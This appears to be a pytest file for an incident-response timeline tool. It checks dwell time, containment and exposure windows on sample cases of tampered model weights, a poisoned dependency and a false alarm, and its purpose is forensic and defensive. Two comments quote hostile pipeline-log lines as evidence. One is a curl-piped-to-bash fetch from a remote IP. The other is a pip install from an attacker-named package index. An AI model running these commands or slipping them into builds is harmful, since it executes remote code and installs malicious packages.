"""Milestones and intervals on the three sample cases, against values computed by hand from
``evidence-samples/README.md`` and the case files.

The log scanner and the drift analysis are not part of these tests: where a case needs them (the malicious pipeline
line, the drift onset) the test adds the Event those analyses emit, at the time of the real line of the real log
(read through the real loader) or of the first prediction served after the tamper time.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from workbench.records import Event, EvidenceWarning
from workbench.timeline.build import build_timeline
from workbench.timeline.milestones import format_duration
from workbench.timeline.sources import evidence_events
from workbench.timeparse import parse_timestamp

GENERATED = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


def _t(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)


def _log_match(o, line: int, severity: str) -> Event:
    """The log scanner's Event for a line of the case's pipeline log (time read from the line itself)."""
    loaded = o.evidence.first("pipeline_log")
    text = loaded.frame.loc[loaded.frame["line"] == line, "text"].item()
    stamp = text.split()[0].strip("[]")
    return Event(parse_timestamp(stamp), loaded.path, "ci:log:match", text[:200], severity, extra={"line": line})


def _events(o) -> list[Event]:
    warnings: list[EvidenceWarning] = []
    events = evidence_events(o.case, o.evidence, o.ledger, warnings=warnings)
    assert warnings == []
    return events


def _times(tl) -> dict[str, datetime | None]:
    return {name: m.time for name, m in tl.milestones.milestones.items()}


def test_tampered_weights(opened):
    o = opened("tampered-weights")
    curl = _log_match(o, 94, "critical")  # `curl -sSL http://203.0.113.7/p.sh | bash`
    assert curl.timestamp == _t("2026-11-14T03:08:01.384975Z")
    # first prediction served after the tamper time 03:12:00Z: line 5798 of predictions.jsonl
    onset = Event(
        _t("2026-11-14T03:13:04.8Z"), "predictions/predictions.jsonl", "ml:drift:onset", "drift onset", "high"
    )
    exposure = {"onset": "2026-11-14T03:13:04.800Z", "onset_interval": None, "end": None, "predictions": 4240}
    tl = build_timeline([*_events(o), curl, onset], meta=o.case.meta, exposure=exposure, generated_at=GENERATED)
    assert _times(tl) == {
        "first_indicator": _t("2026-11-14T03:08:01.384975Z"),
        "compromise": _t("2026-11-14T03:08:01.384975Z"),
        "detection": _t("2026-11-19T08:40:03Z"),  # case.yaml
        "containment": _t("2026-11-19T09:40:33Z"),  # ISOLATE
        "recovery": _t("2026-11-19T11:20:47Z"),  # ROLLBACK
        "report": GENERATED,
    }
    ms = tl.milestones
    assert ms["compromise"].rule == "earliest malicious pipeline-log line (ci:log:match, severity critical)"
    assert ms["compromise"].candidates == (
        ("drift onset (ml:drift:onset)", _t("2026-11-14T03:13:04.8Z")),
        ("earliest malicious pipeline-log line (ci:log:match, severity critical)", curl.timestamp),
    )
    assert (ms["detection"].rule, ms["detection"].source) == ("case.yaml detection_time", "case.yaml")
    assert (ms["containment"].source, ms["containment"].message) == (
        "actions.log",
        "ISOLATE: Isolating compromised model sentiment-model-v2.1",
    )
    assert ms["dwell_time"].duration == timedelta(days=5, hours=5, minutes=32, seconds=1, microseconds=615025)
    assert ms["dwell_time"].text == "5 d 5 h 32 min 2 s"
    assert ms["time_to_contain"].duration == timedelta(hours=1, seconds=30)
    assert ms["time_to_contain"].text == "1 h 0 min 30 s"
    assert ms["time_to_recover"].text == "2 h 40 min 44 s"
    window = ms["exposure_window"]
    assert (window.start, window.end) == (_t("2026-11-14T03:13:04.8Z"), _t("2026-11-19T09:40:33Z"))
    assert window.rule == "drift analysis: exposure onset → containment (no end in the predictions)"
    assert window.text == "5 d 6 h 27 min 28 s"
    assert tl.summary()["flagged"] == {}


def test_tampered_weights_without_exposure_object(opened):
    o = opened("tampered-weights")
    tl = build_timeline([*_events(o), _log_match(o, 94, "critical")], meta=o.case.meta, generated_at=GENERATED)
    window = tl.milestones["exposure_window"]
    assert (window.start, window.end, window.rule) == (
        _t("2026-11-14T03:08:01.384975Z"),
        _t("2026-11-19T09:40:33Z"),
        "estimated compromise → containment",
    )
    assert window.text == "5 d 6 h 32 min 32 s"


def test_tampered_weights_evidence_only(opened):
    """Without the analyses: no compromise estimate, detection from case.yaml, containment and recovery."""
    o = opened("tampered-weights")
    tl = build_timeline(_events(o), meta=o.case.meta, generated_at=GENERATED)
    assert _times(tl) == {
        "first_indicator": _t("2026-11-19T08:40:03Z"),  # FILE_TAMPERED alert
        "compromise": None,
        "detection": _t("2026-11-19T08:40:03Z"),
        "containment": _t("2026-11-19T09:40:33Z"),
        "recovery": _t("2026-11-19T11:20:47Z"),
        "report": GENERATED,
    }
    assert tl.milestones["dwell_time"].text == "—"
    assert tl.milestones["time_to_contain"].text == "1 h 0 min 30 s"


def test_poisoned_dependency(opened):
    o = opened("poisoned-dependency")
    pip = _log_match(o, 28, "high")  # pip install --extra-index-url https://pypi.attacker.example/simple
    tl = build_timeline([*_events(o), pip], meta=o.case.meta, generated_at=GENERATED)
    assert _times(tl) == {
        "first_indicator": _t("2026-11-21T14:02:12.069Z"),
        "compromise": _t("2026-11-21T14:02:12.069Z"),
        "detection": _t("2026-11-21T14:25:04Z"),
        "containment": None,  # assessed only: nothing to isolate
        "recovery": None,
        "report": GENERATED,
    }
    ms = tl.milestones
    assert ms["dwell_time"].duration == timedelta(minutes=22, seconds=51, microseconds=931000)
    assert ms["dwell_time"].text == "22 min 52 s"
    assert (ms["time_to_contain"].duration, ms["time_to_contain"].text) == (None, "open (no end in the evidence)")
    assert ms["containment"].rule == "no isolate step"
    assert (ms["exposure_window"].start, ms["exposure_window"].end) == (_t("2026-11-21T14:02:12.069Z"), None)


def test_false_alarm(opened):
    o = opened("false-alarm")
    tl = build_timeline(_events(o), meta=o.case.meta, generated_at=GENERATED)
    assert _times(tl) == {
        "first_indicator": _t("2026-11-25T02:50:02.417Z"),  # the single BEHAVIOR_DRIFT alert
        "compromise": None,
        "detection": _t("2026-11-25T02:50:02.417Z"),
        "containment": None,
        "recovery": None,
        "report": GENERATED,
    }
    assert tl.milestones["first_indicator"].message.startswith("Monitor alert BEHAVIOR_DRIFT: Model output")
    assert {k: i.duration for k, i in tl.milestones.intervals.items()} == dict.fromkeys(
        ("dwell_time", "time_to_contain", "time_to_recover", "exposure_window")
    )
    assert tl.milestones["compromise"].rule == "no drift onset, no malicious pipeline-log line and no timed finding"


def test_detection_falls_back_to_first_monitor_alert(opened):
    from workbench.case import CaseMeta

    o = opened("tampered-weights")
    tl = build_timeline(_events(o), meta=CaseMeta(incident_id="INC-2026-0142"), generated_at=GENERATED)
    detection = tl.milestones["detection"]
    assert (detection.time, detection.rule, detection.source) == (
        _t("2026-11-19T08:40:03Z"),
        "first monitor alert",
        "monitor/alerts.jsonl",
    )
    anchored = [e for e in tl.entries if "detection" in e.milestones]
    assert [e.event.extra["alert_type"] for e in anchored] == ["FILE_TAMPERED"]


def test_milestones_to_dict_is_json_ready(opened):
    import json

    o = opened("tampered-weights")
    doc = build_timeline(_events(o), meta=o.case.meta, generated_at=GENERATED).milestones.to_dict()
    assert json.loads(json.dumps(doc))["intervals"]["time_to_contain"] == {
        "name": "time_to_contain",
        "label": "Time to contain",
        "start": "2026-11-19T08:40:03Z",
        "end": "2026-11-19T09:40:33Z",
        "seconds": 3630.0,
        "text": "1 h 0 min 30 s",
        "rule": "detection → containment",
    }


@pytest.mark.parametrize(
    ("delta", "text"),
    [
        (timedelta(hours=1, seconds=30), "1 h 0 min 30 s"),
        (timedelta(days=2), "2 d 0 h 0 min 0 s"),
        (timedelta(seconds=45), "45 s"),
        (timedelta(milliseconds=300), "< 1 s"),
        (timedelta(0), "0 s"),
        (-timedelta(minutes=5), "-5 min 0 s"),
        (None, "—"),
    ],
)
def test_format_duration(delta, text):
    assert format_duration(delta) == text


def test_exposure_object_with_an_end_and_without_an_onset(opened):
    import pandas as pd

    o = opened("tampered-weights")
    events = _events(o)
    exposure = {"onset": pd.Timestamp("2026-11-14T03:13:04.8Z"), "end": pd.Timestamp("2026-11-19T09:39:20.218Z")}
    window = build_timeline(events, meta=o.case.meta, exposure=exposure, generated_at=GENERATED).milestones[
        "exposure_window"
    ]
    assert (window.start, window.end, window.rule, window.text) == (
        _t("2026-11-14T03:13:04.8Z"),
        _t("2026-11-19T09:39:20.218Z"),
        "drift analysis: exposure onset → end",
        "5 d 6 h 26 min 15 s",
    )
    assert type(window.start) is datetime
    no_onset = {"onset": None, "end": None, "predictions": 0}
    window = build_timeline(events, meta=o.case.meta, exposure=no_onset, generated_at=GENERATED).milestones[
        "exposure_window"
    ]
    assert (window.start, window.end, window.rule) == (
        None,
        _t("2026-11-19T09:40:33Z"),
        "estimated compromise → containment",
    )
